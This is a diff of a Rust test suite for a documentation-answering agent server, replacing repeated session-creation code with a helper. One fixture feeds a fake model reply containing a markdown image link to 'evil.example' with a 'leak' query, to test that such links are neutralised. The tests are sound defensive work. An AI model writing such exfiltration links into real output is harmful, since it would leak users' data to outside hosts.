@@ -148,6 +148,13 @@ async fn call_raw(
 }
 
 /// Waits (bounded) until session `id` is idle, as a client polling it would.
+/// A new session of `token`'s principal: its id.
+async fn new_session(server: &Server, token: &str) -> String {
+    let (status, created) = call(server, "POST", "/v1/sessions", Some(token), None).await;
+    assert_eq!(status, StatusCode::CREATED, "{created}");
+    created["id"].as_str().expect("id").to_string()
+}
+
 async fn until_idle(server: &Server, id: &str, token: &str) -> Value {
     for _ in 0..2_000 {
         let (status, body) = call(server, "GET", &format!("/v1/sessions/{id}"), Some(token), None).await;
@@ -339,8 +346,7 @@ async fn sessions_belong_to_their_principal_and_writes_wait_for_an_approver() {
 #[tokio::test]
 async fn an_approver_cannot_decide_in_their_own_session() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(APPROVER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, APPROVER).await;
     let (_, outcome) = call(
         &s,
         "POST",
@@ -360,8 +366,7 @@ async fn an_approver_cannot_decide_in_their_own_session() {
 #[tokio::test]
 async fn a_denied_write_is_not_done_and_cancel_needs_a_running_turn() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let (status, body) = call(&s, "POST", &format!("/v1/sessions/{id}/cancel"), Some(ASKER), None).await;
     assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("not_running")));
     let (_, outcome) =
@@ -516,8 +521,7 @@ fn streamed(method: &str, uri: &str, token: &str, body: Option<Value>, last_even
 #[tokio::test]
 async fn a_streamed_turn_sends_tool_steps_the_approval_and_done() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let request =
         streamed("POST", &format!("/v1/sessions/{id}/messages"), ASKER, Some(json!({"text": WRITING_QUESTION})), None);
     let response = app(s.state.clone()).oneshot(request).await.expect("response");
@@ -532,8 +536,7 @@ async fn a_streamed_turn_sends_tool_steps_the_approval_and_done() {
     assert!(!format!("{events:?}").contains("4eC39HqLyjWDarjtT1zdp7dc"), "everything streamed is redacted");
 
     // Plain questions stream their (guarded) text and the answer.
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(OTHER), None).await;
-    let other = created["id"].as_str().expect("id").to_string();
+    let other = new_session(&s, OTHER).await;
     let request = streamed(
         "POST",
         &format!("/v1/sessions/{other}/messages"),
@@ -552,8 +555,7 @@ async fn a_streamed_turn_sends_tool_steps_the_approval_and_done() {
 #[tokio::test]
 async fn a_client_that_lost_its_stream_resumes_from_its_last_event_and_follows_new_ones() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let (_, outcome) =
         call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": WRITING_QUESTION})))
             .await;
@@ -716,8 +718,7 @@ async fn a_model_error_that_echoes_the_api_key_never_shows_it() {
     let mut seen = Vec::new();
     let (_, asked) = call(&s, "POST", "/v1/ask", Some(ASKER), Some(json!({"question": "refund window"}))).await;
     seen.push(asked.to_string());
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let (_, message) =
         call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": "refund window"})))
             .await;
@@ -835,8 +836,7 @@ async fn links_the_model_wrote_leave_neutralised_in_events_and_streams() {
         fake::Canned::streamed(&["![x](https://evil.example/?q=leak)\n\ndone"], false),
     ]);
     let s = server_with(&[("llm.model", "test-model".into()), ("llm.base_url", fake.base_url())]);
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     // Two turns: the first leaves an unclosed fence in its text, the second writes an image.
     for text in ["first", "second"] {
         let request =
@@ -860,8 +860,7 @@ async fn links_the_model_wrote_leave_neutralised_in_events_and_streams() {
 #[tokio::test]
 async fn an_unfinished_turn_is_resumed_over_http() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     // A crash right after the question was logged: the turn is unfinished.
     let mut log = s.log();
     log.append(&id, docs_agent::session::event::Event::UserMessage { text: "how long is the refund window".into() })
@@ -907,8 +906,7 @@ async fn cancel_interrupts_a_running_turn_and_keeps_its_partial_text() {
         fake::Canned::streamed(&["Refunds take 14 days."], false),
     ]);
     let s = server_with(&[("llm.model", "test-model".into()), ("llm.base_url", fake.base_url())]);
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let state = s.state.clone();
     let uri = format!("/v1/sessions/{id}/messages");
     let turn = tokio::spawn(async move {
@@ -953,8 +951,7 @@ async fn cancel_interrupts_a_running_turn_and_keeps_its_partial_text() {
 async fn every_session_route_is_404_for_anyone_but_its_owner() {
     let s = server();
     let (_, spec) = call(&s, "GET", "/openapi.json", None, None).await;
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     // A write waits in the session, so every route has something it could act on.
     let (_, outcome) =
         call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": WRITING_QUESTION})))
@@ -1035,8 +1032,7 @@ async fn the_openapi_document_lists_every_api_route() {
 #[tokio::test]
 async fn a_lock_that_cannot_be_taken_is_409_only_when_another_writer_holds_it() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let log_path = s.state.config.session.log_path.clone();
     let message = || json!({"text": "how long is the refund window"});
 
@@ -1084,8 +1080,7 @@ async fn a_secret_the_model_writes_never_leaves_over_http() {
     assert_eq!(status, StatusCode::OK, "{body}");
     assert_eq!(body["answer"], "The key is [REDACTED].", "{body}");
 
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let (_, outcome) =
         call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": "which key"}))).await;
     assert_eq!(outcome["answer"], "The key is [REDACTED].", "{outcome}");
@@ -1215,8 +1210,7 @@ async fn sessions_are_kept_in_the_configured_store() {
 #[tokio::test]
 async fn feedback_is_recorded_and_the_gaps_report_lists_unanswered_questions() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     for text in ["xylophone zeppelin quasar", "how long is the refund window"] {
         let (status, body) =
             call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": text}))).await;
@@ -1297,8 +1291,7 @@ async fn feedback_is_recorded_and_the_gaps_report_lists_unanswered_questions() {
 #[tokio::test]
 async fn the_page_lists_sessions_and_opens_an_answers_sources_with_cited_lines() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     for text in ["How long is the\n refund window?", "and for annual plans"] {
         let (status, body) =
             call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": text}))).await;
@@ -1378,8 +1371,7 @@ async fn the_page_lists_sessions_and_opens_an_answers_sources_with_cited_lines()
 #[tokio::test]
 async fn a_pending_write_comes_with_its_conversation() {
     let s = server();
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     for text in ["how long is the refund window", WRITING_QUESTION] {
         call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": text}))).await;
     }
@@ -1401,8 +1393,7 @@ async fn a_pending_write_comes_with_its_conversation() {
 /// A session whose write waited past its TTL, as a person finds it: `(server, session id)`.
 async fn expired_write() -> (Server, String) {
     let s = server_with(&[("session.approval_ttl_secs", "60".into())]);
-    let (_, created) = call(&s, "POST", "/v1/sessions", Some(ASKER), None).await;
-    let id = created["id"].as_str().expect("id").to_string();
+    let id = new_session(&s, ASKER).await;
     let (_, outcome) =
         call(&s, "POST", &format!("/v1/sessions/{id}/messages"), Some(ASKER), Some(json!({"text": WRITING_QUESTION})))
             .await;
